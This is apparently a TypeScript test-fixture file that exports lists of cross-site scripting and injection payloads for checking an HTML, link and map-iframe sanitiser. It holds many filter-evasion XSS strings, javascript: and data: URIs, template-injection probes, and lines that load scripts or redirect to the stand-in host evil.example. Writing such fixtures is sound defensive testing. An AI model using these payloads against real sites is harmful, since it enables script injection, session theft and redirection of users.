/** Would show a dialogue, and leave its mark, wherever a browser takes it for more than text. */
const ATTACK = 'window.wasRun=1;alert(1)'

/** Breaks out of a script, an attribute or a tag, if any of them lets it. */
export const INJECTED_NAME = `</script><img src=x onerror="${ATTACK}">"'><svg/onload=alert(1)> {{7*7}} \${7*7}`

/** Ways to run a script from rich text, as the filter evasion sheets collect them. */
export const INJECTED_HTML: readonly string[] = [
  `<script>${ATTACK}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${ATTACK}</scr</script>ipt>`,
  `<script/src=data:,${ATTACK}></script>`,
  `<script x>${ATTACK}</script x>`,
  `<img src=x onerror=${ATTACK}>`,
  `<img src="x" OnErRoR="${ATTACK}">`,
  `<img/src=x/onerror=${ATTACK}>`,
  `<img src=\`x\`onerror=${ATTACK}>`,
  `<img """><script>${ATTACK}</script>">`,
  `<img src=x:x onerror\n=\n"${ATTACK}">`,
  `<image src=x onerror=${ATTACK}>`,
  `<svg onload=${ATTACK}>`,
  `<svg/onload=${ATTACK}>`,
  `<svg><script>${ATTACK}</script></svg>`,
  `<svg><animate onbegin=${ATTACK} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${ATTACK}"><text y=20>a</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${ATTACK}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ATTACK}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${ATTACK}">a</math>`,
  `<body onload=${ATTACK}>`,
  `<body onpageshow=${ATTACK}>`,
  `<p onclick=${ATTACK} onmouseover=${ATTACK}>Point at me</p>`,
  `<div onpointerenter=${ATTACK} style="position:fixed;inset:0;background:url(javascript:${ATTACK})">Big</div>`,
  `<details open ontoggle=${ATTACK}><summary>a</summary></details>`,
  `<input autofocus onfocus=${ATTACK}>`,
  `<select autofocus onfocus=${ATTACK}>`,
  `<textarea autofocus onfocus=${ATTACK}></textarea>`,
  `<button formaction="javascript:${ATTACK}">a</button>`,
  `<form action="javascript:${ATTACK}"><input type=submit></form>`,
  `<form id=hijack></form><button form=hijack formaction=https://evil.example>a</button>`,
  `<isindex type=image src=1 onerror=${ATTACK}>`,
  `<iframe src="javascript:parent.${ATTACK}"></iframe>`,
  `<iframe srcdoc="<script>parent.${ATTACK}</script>"></iframe>`,
  `<frameset onload=${ATTACK}><frame src="javascript:${ATTACK}"></frameset>`,
  `<object data="javascript:${ATTACK}"></object>`,
  `<object data="data:text/html,<script>${ATTACK}</script>"></object>`,
  `<embed src="javascript:${ATTACK}">`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ATTACK}'/>">`,
  `<video><source onerror=${ATTACK}></video>`,
  `<video src=x onerror=${ATTACK} autoplay></video>`,
  `<audio src=x onerror=${ATTACK}></audio>`,
  `<marquee onstart=${ATTACK}>a</marquee>`,
  `<meta http-equiv=refresh content="0;url=javascript:${ATTACK}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=import href="data:text/html,<script>${ATTACK}</script>">`,
  `<base href="https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css';body{display:none}</style>`,
  `<a href="javascript:${ATTACK}">a</a>`,
  `<a href=" java\nscript:${ATTACK}">a</a>`,
  `<a href="&#106;avascript:${ATTACK}">a</a>`,
  `<a href="java&#x09;script:${ATTACK}">a</a>`,
  `<a href="\u0001javascript:${ATTACK}">a</a>`,
  `<a href="data:text/html,<script>${ATTACK}</script>">a</a>`,
  `<a href="vbscript:msgbox(1)">a</a>`,
  `<a href="//evil.example/">a</a>`,
  `<a href="https://college.example" onclick=${ATTACK} target=_blank>a</a>`,
  `<template><script>${ATTACK}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ATTACK}>"></noscript>`,
  `<!--><script>${ATTACK}</script>-->`,
  `<!--<img src="--><img src=x onerror=${ATTACK}//">`,
  `<![CDATA[<script>${ATTACK}</script>]]>`,
  `<?xml version="1.0"?><script>${ATTACK}</script>`,
  `<title><script>${ATTACK}</script></title>`,
  `<textarea></textarea><script>${ATTACK}</script>`,
  `<xmp><script>${ATTACK}</script></xmp>`,
  `<plaintext-like><script>${ATTACK}</script></plaintext-like>`,
  `<table background="javascript:${ATTACK}"><tr><td background="javascript:${ATTACK}">a</td></tr></table>`,
  `<p style="background:url('javascript:${ATTACK}')" class="fixed inset-0" id="main">a</p>`,
  `</div></main><script>${ATTACK}</script>`,
]

export const INJECTED_LINKS: readonly string[] = [
  'javascript:window.wasRun=1',
  ' java\nscript:window.wasRun=1',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example',
  'https:evil.example',
]

const GOOD_MAP = 'https://www.google.com/maps/embed?pb=!1m14!1d2000!2d73.5!3d4.17'

export const INJECTED_MAPS: readonly string[] = [
  `<iframe src="${GOOD_MAP}" onload="window.wasRun=1"></iframe>`,
  `<iframe src="${GOOD_MAP}" srcdoc="<script>parent.wasRun=1</script>"></iframe>`,
  '<iframe src="https://www.google.com.evil.example/maps/embed?pb=1"></iframe>',
  '<iframe src="https://www.google.com/url?q=https://evil.example/maps/embed?pb=1"></iframe>',
  '<iframe src="javascript:parent.wasRun=1"></iframe>',
  '<script>window.wasRun=1</script>',
]

/** Something extra hangs on it, but the address is one that we know. */
export const USABLE_MAP = `<iframe src="${GOOD_MAP}&amp;evil=https://evil.example" width="600" style="position:fixed"></iframe>`
